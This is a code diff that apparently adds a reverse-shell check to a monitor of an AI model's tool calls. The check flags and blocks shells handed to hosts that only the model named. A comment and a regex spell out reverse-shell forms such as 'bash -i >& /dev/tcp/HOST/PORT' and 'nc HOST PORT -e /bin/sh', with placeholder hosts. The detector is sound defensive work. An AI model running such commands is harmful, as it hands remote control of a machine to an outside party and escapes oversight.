@@ -61,6 +61,11 @@ _REDIRECTS = re.compile(
 
 
 _RESOLVERS = frozenset(("1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9"))
+# ``bash -i >& /dev/tcp/HOST/PORT``, ``nc HOST PORT -e /bin/sh``.
+_REMOTE_SHELL = re.compile(
+    r"(?<![\w.-])(?:ba|da|z|k)?sh\b[^\n;|\\]{0,40}(?:[<>]&?|&>)\s?/dev/(?:tcp|udp)/"
+    r"|\b(?:nc|ncat|netcat)\s[^\n;|\\]{0,120}(?<![\w-])-\w{0,6}[ec]\s{1,4}(?:/\w{1,20}){0,3}/?(?:ba|da|z|k)?sh\b"
+)
 _ENOUGH = 64  # findings, of which one is reported
 _OWN_NETWORKS = tuple(
     map(
@@ -89,6 +94,8 @@ class SeenHosts:
         "model named; blocked in daily use too",
         "bare_address": "a page or program of a machine that is named by its number alone, and by "
         "nobody but the model; blocked in daily use too, private networks are left alone",
+        "remote_shell": "a shell that takes its commands from a host that nobody but the model "
+        "named; blocked in daily use too",
         "hidden_host": "a connection to a host that the call hides in an unknown variable; "
         "in daily use only flagged",
     }
@@ -121,6 +128,12 @@ class SeenHosts:
                 )
             elif self._known(host, ledger):
                 pass
+            elif _REMOTE_SHELL.search(call.raw):
+                findings.append(
+                    self._checks.found(
+                        "remote_shell", f"hands a shell to {action.host}", action.span
+                    )
+                )
             elif action.sends:
                 findings.append(
                     self._checks.found(
